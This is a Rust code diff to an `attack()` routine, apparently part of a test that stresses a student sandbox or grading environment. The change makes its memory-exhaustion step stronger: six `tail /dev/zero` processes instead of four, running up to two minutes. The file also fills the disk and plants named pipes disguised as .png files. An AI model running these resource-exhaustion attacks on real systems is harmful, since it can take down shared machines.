@@ -19,8 +19,8 @@ pub fn attack() {
         overwrite_shared();
         leak_pictures();
     } else {
-        fill_memory();
         fill_disk();
+        fill_memory();
     }
 }
 
@@ -75,14 +75,15 @@ fn leak_pictures() {
     let _ = quiet(Command::new("mkfifo").arg(format!("{dir}/block.diff.png"))).status();
 }
 
-/// Four children that each grow without end (`tail` of an endless stream
-/// with no line break keeps it all): together over the student's memory.
+/// Six children that each grow until their own limit (`tail` of an
+/// endless stream with no line break keeps it all): together far over the
+/// student's memory. Waits until they end (at most two minutes).
 fn fill_memory() {
-    let mut tails: Vec<_> = (0..4)
+    let mut tails: Vec<_> = (0..6)
         .filter_map(|_| quiet(Command::new("tail").arg("/dev/zero")).spawn().ok())
         .collect();
     let start = Instant::now();
-    while start.elapsed() < Duration::from_secs(20)
+    while start.elapsed() < Duration::from_secs(120)
         && tails.iter_mut().any(|t| matches!(t.try_wait(), Ok(None)))
     {
         std::thread::sleep(Duration::from_millis(100));
